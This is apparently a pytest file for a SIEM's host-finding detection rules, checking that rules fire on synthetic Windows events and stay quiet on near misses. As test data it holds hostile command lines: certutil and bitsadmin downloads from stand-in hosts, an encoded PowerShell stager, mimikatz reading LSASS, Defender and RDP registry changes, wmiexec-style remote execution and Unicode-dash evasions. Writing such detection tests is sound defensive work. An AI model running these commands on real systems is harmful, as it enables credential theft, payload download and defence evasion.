"""Host findings' rules on events of our own making: each rule fires, its near misses do not
(analytics.host_findings, analytics.host_finding_rules), copies of one act count once, a fan-out
cluster's process carries its hits, and a benign verdict covers only the hits it judged."""

from __future__ import annotations

from analytics.host_finding_carry import ANY_BUILD, carried_subjects
from analytics.host_finding_words import covered_by_verdict, host_record, verdict_scope
from analytics.host_findings import (
    Hit,
    group_by_host,
    hits_of_events,
    process_key,
)

MIMI = r"C:\Users\bob\Desktop\mimikatz.exe"
LSASS = r"C:\Windows\system32\lsass.exe"


def access(source: str, mask: str, *, guid: str = "g1", target: str = LSASS, event_id: str = "e-acc") -> tuple:
    return (event_id, "sysmon:process_access", 100.0,
            {"process.executable": source, "process.guid": guid, "target.process.executable": target,
             "target.granted_access": mask})


def create(image: str, command: str, *, parent: str = r"C:\Windows\explorer.exe", original: str | None = None,
           event_id: str = "e-c", ts: float = 50.0, guid: str = "g1", kind: str = "sysmon:process_create") -> tuple:
    fields = {"process.executable": image, "process.command_line": command, "process.parent.executable": parent,
              "process.guid": guid}
    if original is not None:
        fields["process.pe.original_file_name"] = original
    return (event_id, kind, ts, fields)


def rules_of(*events: tuple) -> list[str]:
    return [h.rule for h in hits_of_events("ws-1", list(events))]


def test_lsass_read_by_a_tool_fires_and_names_the_mask():
    hits = hits_of_events("pc04", [access(MIMI, "0x1010")])
    assert [(h.rule, h.host, h.event_id) for h in hits] == [("lsass_read", "pc04", "e-acc")]
    assert "0x1010" in hits[0].detail and "mimikatz.exe" in hits[0].detail


def test_lsass_near_misses_query_masks_system_readers_other_targets():
    assert rules_of(access(MIMI, "0x1000"), access(MIMI, "0x1400")) == []  # query only: no memory read
    assert rules_of(access(MIMI, "0x20")) == []  # write-only right: not a read
    assert rules_of(access(MIMI, "0x1010", target=r"C:\Windows\notepad.exe")) == []
    assert rules_of(access(r"C:\Windows\System32\csrss.exe", "0x1fffff"),
                    access(r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2\MsMpEng.exe", "0x1410")) == []
    # the same names elsewhere are no system readers
    assert rules_of(access(r"C:\Users\Public\csrss.exe", "0x1410")) == ["lsass_read"]


def test_a_tool_saved_under_a_free_system_readers_name_is_no_system_reader():
    """An LSASS read needs an administrator, who can create files under a name Windows left free (T14):
    SysWOW64 holds no csrss/lsm/wininit, System32 no lsm.exe since Windows 8."""
    assert rules_of(access(r"C:\Windows\SysWOW64\csrss.exe", "0x1010")) == ["lsass_read"]
    assert rules_of(access(r"C:\Windows\SysWOW64\lsm.exe", "0x1fffff")) == ["lsass_read"]
    lsm = r"C:\Windows\System32\lsm.exe"
    assert rules_of(create(lsm, lsm, original="-"), access(lsm, "0x1010")) == ["lsass_read"]  # no PE name
    # the real readers: a 32-bit WerFault, a System32 binary whose PE name is its own (or whose creation is unseen)
    assert rules_of(access(r"C:\Windows\SysWOW64\WerFault.exe", "0x1fffff")) == []
    svchost = r"C:\Windows\System32\svchost.exe"
    assert rules_of(create(svchost, "svchost.exe -k netsvcs", original="svchost.exe"), access(svchost, "0x1410")) == []
    assert rules_of(access(lsm, "0x1410")) == ["lsass_read"]  # a free name, its creation unseen (HOSTF2)


def test_process_explorer_is_allowed_only_when_its_pe_name_agrees():
    procexp = r"C:\Program Files\Sysinternals\procexp64.exe"  # no signer said: Program Files only (T15L)
    assert rules_of(create(procexp, procexp, original="procexp64.exe"), access(procexp, "0x1410")) == []
    assert rules_of(create(procexp, procexp, original="mimikatz.exe"), access(procexp, "0x1410")) == [
        "renamed_tool", "lsass_read"]
    assert rules_of(access(procexp, "0x1410")) == ["lsass_read"]  # its creation unseen: not vouched for


def test_renamed_tool_from_the_creation_or_from_its_own_image_load():
    assert rules_of(create(r"C:\Users\Public\svcupd.exe", "svcupd.exe", original="PowerShell.EXE")) == ["renamed_tool"]
    load = ("e-load", "sysmon:image_load", 60.0,
            {"process.executable": r"C:\Users\wardog\Desktop\wardog.exe",
             "file.path": r"C:\Users\wardog\Desktop\wardog.exe", "file.pe.original_file_name": "mimikatz.exe"})
    hits = hits_of_events("workstation5", [load])
    assert [h.rule for h in hits] == ["renamed_tool"] and "mimikatz.exe" in hits[0].detail
    # near misses: the binary under its own name, a DLL it loaded, a vendor's own original name
    assert rules_of(create(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe",
                           original="PowerShell.EXE")) == []
    dll = ("e-dll", "sysmon:image_load", 60.0, {"process.executable": r"C:\x\wardog.exe",
                                                "file.path": r"C:\x\mimi.dll", "file.pe.original_file_name": "mimikatz.exe"})
    assert rules_of(dll) == []
    assert rules_of(create(r"C:\Program Files\7-Zip\7zG.exe", "7zG.exe", original="7zg.exe")) == []


def test_log_cleared():
    cleared = ("e-1102", "windows:log_cleared", 70.0,
               {"event.code": "1102", "event.channel": "Security", "user.name": "corp\\eve"})
    hits = hits_of_events("pc01", [cleared])
    assert [h.rule for h in hits] == ["log_cleared"] and "corp\\eve" in hits[0].detail


def test_stager_needs_a_script_host_or_office_parent():
    enc = "powershell.exe -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBFAFIAUwBpAE8AbgBUAGEAQgBsAEUA"
    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    assert rules_of(create(ps, enc, parent=r"C:\Windows\System32\wscript.exe")) == ["script_stager"]
    assert rules_of(create(ps, enc, parent=r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")) == [
        "script_stager"]
    # near misses: an encoded command from a scheduler or a shell, a script host with a plain command
    assert rules_of(create(ps, enc, parent=r"C:\Windows\System32\svchost.exe")) == []
    assert rules_of(create(ps, "powershell.exe -ExecutionPolicy Bypass -File inventory.ps1",
                           parent=r"C:\Windows\System32\wscript.exe")) == []
    assert rules_of(create(ps, "powershell.exe -exec bypass -c Get-Date", parent=r"C:\Windows\System32\wscript.exe")) == []


def test_download_defence_and_remote_exec_command_lines():
    cu = r"C:\Windows\System32\certutil.exe"
    assert rules_of(create(cu, "certutil.exe -urlcache -f https://evil.example/a.txt a.exe")) == ["lolbin_download"]
    assert rules_of(create(cu, "certutil.exe -decode a.b64 a.exe")) == ["lolbin_download"]
    assert rules_of(create(cu, "certutil.exe -verify cert.cer")) == []
    assert rules_of(create(r"C:\Windows\System32\bitsadmin.exe",
                           "bitsadmin.exe /transfer job /priority Foreground https://x.example/a.ps1 C:\\t\\a.ps1")) == [
        "lolbin_download"]
    assert rules_of(create(r"C:\Windows\System32\bitsadmin.exe", "bitsadmin.exe /list")) == []
    assert rules_of(create(r"C:\Windows\System32\desktopimgdownldr.exe",
                           "desktopimgdownldr.exe /lockscreenurl:https://a.example/x.7z /eventName:x")) == ["lolbin_download"]
    reg = r"C:\Windows\System32\reg.exe"
    on = r'reg.exe add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'
    assert rules_of(create(reg, on)) == ["defence_change"]
    assert rules_of(create(reg, on.replace("/d 0", "/d 1"))) == []  # RDP turned off: no finding
    assert rules_of(create(reg, r"reg.exe query HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server /v fDenyTSConnections")) == []
    wmiexec = r"cmd.exe /Q /c whoami /all 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1"
    assert rules_of(create(r"C:\Windows\System32\cmd.exe", wmiexec, parent=r"C:\Windows\System32\wbem\WmiPrvSE.exe")) == [
        "remote_exec"]
    assert rules_of(create(r"C:\Windows\System32\cmd.exe", r"cmd.exe /Q /c dir 1> C:\Windows\Temp\out.txt 2>&1")) == []


def test_switches_spelt_with_a_unicode_dash_or_quoted_still_match():
    """PowerShell, certutil and bitsadmin read U+2013/U+2014/U+2015 as '-' (T14): one character must not
    pass a rule, nor quotes around the encoded command, nor Set-MpPreference's ``1`` for ``$true``."""
    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    b64 = "SQBmACgAJABQAFMAVgBFAFIAUwBpAE8AbgBUAGEAQgBsAEUA"
    for command in (f"powershell.exe -nop \u2013enc {b64}", f"powershell.exe -nop \u2014e {b64}",
                    f"powershell.exe \u2015EncodedCommand {b64}", f'powershell.exe -nop -enc "{b64}"',
                    f"powershell.exe -EncodedCommand:{b64}"):
        assert rules_of(create(ps, command, parent=word)) == ["script_stager"], command
    cu = r"C:\Windows\System32\certutil.exe"
    assert rules_of(create(cu, "certutil.exe \u2013urlcache \u2013f https://evil.example/a.txt a.exe")) == [
        "lolbin_download"]
    assert rules_of(create(cu, "certutil.exe \u2014decode a.b64 a.exe")) == ["lolbin_download"]
    assert rules_of(create(r"C:\Windows\System32\bitsadmin.exe",
                           "bitsadmin.exe \u2013transfer job https://x.example/a.ps1 C:\\t\\a.ps1")) == ["lolbin_download"]
    mp = "powershell.exe Set-MpPreference -DisableRealtimeMonitoring 1"
    assert rules_of(create(ps, mp)) == ["defence_change"]
    # near misses stay quiet: protection turned back on, a plain dash-free word
    assert rules_of(create(ps, mp.replace(" 1", " 0"))) == []
    assert rules_of(create(ps, f"powershell.exe \u2013File encoder.ps1 {b64}", parent=word)) == []


def test_one_act_logged_twice_counts_once():
    cu = r"C:\Windows\System32\certutil.exe"
    command = "certutil.exe -urlcache -f https://evil.example/a.txt a.exe"
    twice = [create(cu, command, event_id="sysmon-1"), create(cu, command, event_id="4688", ts=50.5,
                                                              kind="winsec:process_create")]
    assert [h.event_id for h in hits_of_events("ws-1", twice)] == ["sysmon-1"]
    later = [create(cu, command, event_id="a"), create(cu, command, event_id="b", ts=500.0)]
    assert len(hits_of_events("ws-1", later)) == 2


def _hit(host: str, rule: str, command: str, event_id: str) -> Hit:
    return Hit(host, rule, 1.0, event_id, r"C:\p.exe", command, f"c:\\p.exe|{command}", "matched")


def test_a_clusters_process_carries_its_hits_everywhere_and_one_finding_per_host():
    hits = [_hit("ws-1", "script_stager", "p -enc aaa", "1"), _hit("ws-2", "script_stager", "p -enc aaa", "2"),
            _hit("ws-3", "lsass_read", "other", "3"), _hit("ws-3", "log_cleared", "x", "4")]
    carried = carried_subjects(hits, {"ws-1": {("c:\\p.exe", "p -enc aaa")}})
    assert carried == {("script_stager", "c:\\p.exe|p -enc aaa", ANY_BUILD)}  # ws-2's straggler too
    kept = [h for h in hits if (h.rule, h.subject, ANY_BUILD) not in carried]
    findings = group_by_host(kept)
    assert [(f.host, f.rules, f.risk) for f in findings] == [("ws-3", ["lsass_read", "log_cleared"], 90.0)]


def test_a_tool_wearing_a_clustered_processs_command_line_is_not_the_clusters():
    """A command line is whatever the creator wrote (T14): mimikatz started with a clustered updater's
    command line read LSASS on ws-1 and ws-2, and both hits were carried (hidden) as the updater's."""
    updater = r"C:\Program Files\Vendor\Update\vupdate.exe"
    command = f'"{updater}" /ua /installsource scheduler'
    held = {"ws-1": {process_key(updater, command)}}
    spoofed = [Hit(host, "lsass_read", 1.0, f"e-{host}", MIMI, command, f"{MIMI.lower()}|{command.lower()}", "read")
               for host in ("ws-1", "ws-2")]
    assert carried_subjects(spoofed, held) == set()
    assert [f.host for f in group_by_host(spoofed)] == ["ws-1", "ws-2"]
    # the updater itself (its image, any case or quoting) is still the cluster's, its creation unseen too
    genuine = Hit("ws-1", "lsass_read", 1.0, "e-u", f'"{updater.upper()}"', command, "u", "read")
    unseen = Hit("ws-1", "lsass_read", 1.0, "e-v", updater, "", "v", "read")
    assert carried_subjects([genuine, unseen], held) == {("lsass_read", "u", ANY_BUILD), ("lsass_read", "v", ANY_BUILD)}


def test_a_benign_verdict_covers_the_hits_it_judged_not_a_new_one():
    first = group_by_host([_hit("ws-3", "lsass_read", "backup agent", "1")])[0]
    pivot = ("host", "ws-3")
    judged = {pivot: {pivot, *verdict_scope(host_record(first))}}
    again = group_by_host([_hit("ws-3", "lsass_read", "backup agent", "9")])[0]
    assert covered_by_verdict(pivot, host_record(again), {pivot}, judged)
    more = group_by_host([_hit("ws-3", "lsass_read", "backup agent", "9"), _hit("ws-3", "log_cleared", "x", "10")])[0]
    assert not covered_by_verdict(pivot, host_record(more), {pivot}, judged)
    assert not covered_by_verdict(pivot, host_record(again), set(), judged)


def test_a_benign_verdict_on_a_readers_build_does_not_cover_another_build_at_its_path():
    """The judged backup agent replaced by mimikatz at its path, run with its command line (T14): the
    creation's SHA-256 is part of the subject, so the verdict on the agent's read does not cover it."""
    agent = r"C:\Program Files\Backup\agent.exe"

    def read(digest: str, event: str) -> list[tuple]:
        made = create(agent, f'"{agent}" --service', guid=f"g-{event}", event_id=f"c-{event}")
        made[3]["process.hash.sha256"] = digest
        return [made, access(agent, "0x1410", guid=f"g-{event}", event_id=f"a-{event}")]

    pivot = ("host", "ws-3")
    first = group_by_host(hits_of_events("ws-3", read("AB" * 32, "1")))[0]
    judged = {pivot: {pivot, *verdict_scope(host_record(first))}}
    same = group_by_host(hits_of_events("ws-3", read("ab" * 32, "2")))[0]
    assert covered_by_verdict(pivot, host_record(same), {pivot}, judged)
    swapped = group_by_host(hits_of_events("ws-3", read("cd" * 32, "3")))[0]
    assert not covered_by_verdict(pivot, host_record(swapped), {pivot}, judged)


def test_the_service_records_the_judged_hits_beside_the_members():
    from graphsiem.api.state_verdicts import covered_keys

    finding = group_by_host([_hit("ws-3", "lsass_read", "backup agent", "1")])[0]
    data = {"entity_keys": [{"type": "host", "key": "ws-3"}], "host_finding": host_record(finding)}
    assert covered_keys(("host", "ws-3"), data) == [("host", "ws-3"), *verdict_scope(host_record(finding))]


def test_hosts_come_from_the_tallies_only_while_they_hold_every_row(tmp_path):
    """A journal appended by a version without the per-host tallies leaves them behind: the hosts it
    added must still be read (else their events make no finding)."""
    import sqlite3

    from analytics.host_findings import journal_hosts
    from ingest.journal_host_kinds import UPTO_KEY

    db = sqlite3.connect(tmp_path / "j.db")
    db.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL)")
    db.execute("CREATE TABLE events (seq INTEGER PRIMARY KEY, kind TEXT, host TEXT)")
    db.execute("CREATE TABLE host_kind_counts (host TEXT, kind TEXT, n INTEGER, PRIMARY KEY (host, kind))")
    db.execute("INSERT INTO events (kind, host) VALUES ('sysmon:process_access', 'ws-1'), ('dns', 'ws-2')")
    db.execute("INSERT INTO host_kind_counts VALUES ('ws-1', 'sysmon:process_access', 1), ('ws-2', 'dns', 1)")
    db.execute("INSERT INTO meta VALUES (?, '2')", (UPTO_KEY,))
    assert journal_hosts(db) == ["ws-1"]  # current: only hosts with the rules' kinds
    db.execute("INSERT INTO events (kind, host) VALUES ('windows:log_cleared', 'pc-9')")  # not tallied
    assert sorted(journal_hosts(db)) == ["pc-9", "ws-1", "ws-2"]
